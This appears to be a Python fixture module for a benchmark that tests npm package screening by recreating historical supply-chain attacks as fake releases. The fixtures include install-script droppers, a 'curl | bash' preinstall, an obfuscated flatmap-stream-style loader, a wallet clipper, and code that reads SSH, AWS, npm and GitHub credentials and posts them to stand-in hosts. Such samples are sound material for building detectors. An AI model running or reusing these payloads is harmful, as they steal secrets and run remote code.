"""npm's own: scripts that run on installation, and modules that act when they are required."""

import base64
from typing import Final

from bench.screening.attacks.attack import MARKER, Attack, Release
from bench.screening.attacks.ordinary import JS_COMMENT, index_js
from sandboxes.screening.package import Kind

_INERT_JS = 'console.log("inert")'

_POSTINSTALL = f"""{JS_COMMENT}const https = require("https");
const {{ exec }} = require("child_process");
const fs = require("fs");
const os = require("os");
const path = require("path");

const target = path.join(os.tmpdir(), "run.sh");
https.get("https://files.example.invalid/run.sh", (answer) => {{
  answer.pipe(fs.createWriteStream(target)).on("finish", () => exec(`sh ${{target}}`));
}});
"""

_PREINSTALL = f"""{JS_COMMENT}const {{ exec, spawn }} = require("child_process");

if (process.platform === "win32") {{
  spawn("cmd.exe", ["/c", "preinstall.bat"]);
}} else if (process.platform === "linux") {{
  exec("/bin/bash preinstall.sh");
}}
"""

_PREINSTALL_SH = f"""# {MARKER}
IP=$(curl -k https://where.example.invalid/country | grep -c RU)
if [ -z "$IP" ]; then
  curl -s http://192.0.2.131/download/jsextension -o jsextension
  chmod +x jsextension
  ./jsextension -k --tls -o 192.0.2.132:443
fi
"""

_FLATMAP = """
!(function () {
  try {
    var r = require,
      t = process;
    function e(r) {
      return Buffer.from(r, "hex").toString();
    }
    var n = r(e("2e2f746573742f64617461")),
      o = t[e(n[3])][e(n[4])];
    if (!o) return;
    var u = r(e(n[2]))[e(n[6])](e(n[5]), o),
      a = u.update(n[0], e(n[8]), e(n[9]));
    a += u.final(e(n[9]));
    var f = new module.constructor();
    (f.paths = module.paths), f[e(n[7])](a, ""), f.exports(n[1]);
  } catch (r) {}
})();
"""


def _hex(word: str) -> str:
    return word.encode().hex()


# No key decrypts it to anything: it is the marker in hexadecimal.
_FLATMAP_DATA = (
    f"{JS_COMMENT}module.exports = "
    + str(
        [
            _hex(MARKER) * 8,
            _hex(_INERT_JS),
            *map(
                _hex,
                [
                    "crypto",
                    "env",
                    "npm_package_description",
                    "aes256",
                    "createDecipher",
                    "_compile",
                    "hex",
                    "utf8",
                ],
            ),
        ]
    ).replace("'", '"')
    + ";\n"
)

_ENVIRONMENT = f"""{JS_COMMENT}const http = require("http");
const querystring = require("querystring");

const host = "npm.hacktask.example.invalid";
const env = JSON.stringify(process.env);
const data = Buffer.from(env).toString("base64");
const body = querystring.stringify({{ data }});
const request = http.request({{
  hostname: host,
  port: 80,
  path: "/log/",
  method: "POST",
  headers: {{ "Content-Type": "application/x-www-form-urlencoded", "Content-Length": Buffer.byteLength(body) }},
}});
request.write(body);
request.end();
"""

_TOKENS = f"""{JS_COMMENT}const fs = require("fs");
const os = require("os");
const path = require("path");
const https = require("https");
const {{ execSync }} = require("child_process");

const found = {{ env: process.env, files: {{}} }};
for (const name of [".npmrc", ".ssh/id_rsa", ".aws/credentials", ".config/gh/hosts.yml"]) {{
  try {{
    found.files[name] = fs.readFileSync(path.join(os.homedir(), name), "utf8");
  }} catch (error) {{}}
}}
try {{
  found.token = execSync("gh auth token").toString();
}} catch (error) {{}}
const request = https.request("https://repos.example.invalid/s1ngularity", {{ method: "POST" }});
request.on("error", () => {{}});
request.end(Buffer.from(JSON.stringify(found)).toString("base64"));
"""

# The address that it would put in is the one that was there.
_CLIPPER = """
const _0x112f=['request','ethereum','eth_sendTransaction','fetch','prototype','send'];(function(_0x13c8b9,_0x1f2d){
const _0x35f6=function(_0x2b){while(--_0x2b){_0x13c8b9['push'](_0x13c8b9['shift']());}};
_0x35f6(++_0x1f2d);}(_0x112f,0x0));
const _0x50ce=function(_0x35c4,_0x2e){_0x35c4=_0x35c4-0x0;return _0x112f[_0x35c4];};
if(typeof window!=='undefined'&&typeof window[_0x50ce('0x1')]!=='undefined'){
const _0x5a=window[_0x50ce('0x1')][_0x50ce('0x0')];
window[_0x50ce('0x1')][_0x50ce('0x0')]=async function(_0x1d){if(_0x1d['method']===_0x50ce('0x2')){
const _0x77=_0x1d['params'][0x0]['to'];_0x1d['params'][0x0]['to']=/^0x[a-fA-F0-9]{40}$/['test'](_0x77)?_0x77:_0x77;}
return _0x5a['apply'](this,arguments);};}
"""

_EVAL = f"""
eval(Buffer.from("{base64.b64encode(_INERT_JS.encode()).decode()}", "base64").toString());
"""

_DROPPER_JS = f"""{JS_COMMENT}const stq = ["b3M=", "Y2hpbGRfcHJvY2Vzcw=="]
  .map((s) => Buffer.from(s, "base64").toString());
const os = require(stq[0]);
const child = require(stq[1]);

const url = "http://192.0.2.141:8000/6202033";
if (os.platform() === "linux") {{
  const file = `${{os.tmpdir()}}/petridish-inert.py`;
  child.exec(`curl -o ${{file}} -d packages -s ${{url}} && nohup python3 ${{file}} > /dev/null 2>&1 &`);
}}
require("fs").unlinkSync(__filename);
"""


def _scripts(**scripts: str) -> dict[str, object]:
    return {"scripts": scripts}


ATTACKS: Final[tuple[Attack, ...]] = (
    Attack(
        name="npm-postinstall-dropper",
        recreates="the typosquats with install scripts (since 2017): a script that downloads and runs another",
        kind=Kind.NPM,
        project="text-slug-helper",
        release=Release(
            "1.0.3", {**index_js(), "setup.js": _POSTINSTALL}, _scripts(postinstall="node setup.js")
        ),
        expects=frozenset({"npm"}),
    ),
    Attack(
        name="npm-shell-in-script",
        recreates="rc and coa (2021): the script itself is a download into a shell",
        kind=Kind.NPM,
        project="text-rc-reader",
        release=Release(
            "1.2.9", index_js(), _scripts(preinstall="curl -s https://files.example.invalid/c.sh | bash")
        ),
        former=Release("1.2.8", index_js()),
        since="2014-01-01T08:00:00Z",
        releases=30,
        expects=frozenset({"npm"}),
    ),
    Attack(
        name="npm-preinstall-miner",
        recreates="ua-parser-js 0.7.29 (2021): a taken account adds preinstall scripts that fetch a miner",
        kind=Kind.NPM,
        project="text-agent-parser",
        release=Release(
            "0.7.29",
            {**index_js(), "preinstall.js": _PREINSTALL, "preinstall.sh": _PREINSTALL_SH},
            _scripts(preinstall="start /B node preinstall.js & node preinstall.js"),
        ),
        former=Release("0.7.28", index_js(), _scripts(test="node test.js")),
        since="2012-11-01T08:00:00Z",
        releases=50,
        expects=frozenset({"npm"}),
    ),
    Attack(
        name="npm-hidden-payload",
        recreates="event-stream's flatmap-stream 0.1.1 (2018): test data is decrypted and compiled",
        kind=Kind.NPM,
        project="flatmap-text-stream",
        release=Release("0.1.1", {**index_js(_FLATMAP), "test/data.js": _FLATMAP_DATA}),
        former=Release("0.1.0", index_js()),
        since="2026-08-01T08:00:00Z",
        releases=2,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
    Attack(
        name="npm-environment-theft",
        recreates="crossenv (2017): a typosquat that sends the environment away after installation",
        kind=Kind.NPM,
        project="crossenv-text",
        release=Release(
            "6.1.1",
            {**index_js(), "package-setup.js": _ENVIRONMENT},
            _scripts(postinstall="node package-setup.js"),
        ),
        expects=frozenset({"npm"}),
    ),
    Attack(
        name="npm-token-theft",
        recreates="nx 21.5.0, s1ngularity (2025): tokens, keys and environment after installation",
        kind=Kind.NPM,
        project="nx-text-build",
        release=Release(
            "21.5.0", {**index_js(), "telemetry.js": _TOKENS}, _scripts(postinstall="node telemetry.js")
        ),
        former=Release("21.4.1", index_js()),
        since="2017-08-01T08:00:00Z",
        releases=900,
        expects=frozenset({"npm", "secrets"}),
    ),
    Attack(
        name="npm-clipper",
        recreates="chalk and debug (2025): a mangled wrapper around the browser's wallet",
        kind=Kind.NPM,
        project="chalk-text-colour",
        release=Release("5.6.1", index_js(_CLIPPER)),
        former=Release("5.6.0", index_js()),
        since="2013-08-01T08:00:00Z",
        releases=40,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
    Attack(
        name="npm-eval",
        recreates="eslint-scope 3.7.2 and later ones (2018): what is required evaluates something decoded",
        kind=Kind.NPM,
        project="scope-text-lint",
        release=Release("3.7.2", index_js(_EVAL)),
        former=Release("3.7.1", index_js()),
        since="2014-11-01T08:00:00Z",
        releases=20,
        expects=frozenset({"npm", "obfuscation", "difference", "yara"}),
    ),
    Attack(
        name="npm-hidden-dependency",
        recreates="plain-crypto-js, axios' dependency for three hours (2026): a dropper that takes itself away",
        kind=Kind.NPM,
        project="plain-text-crypto",
        release=Release(
            "4.2.1", {**index_js(), "setup.js": _DROPPER_JS}, _scripts(postinstall="node setup.js")
        ),
        former=Release("4.2.0", index_js()),
        since="2026-10-31T08:00:00Z",
        releases=2,
        expects=frozenset({"npm"}),
    ),
)
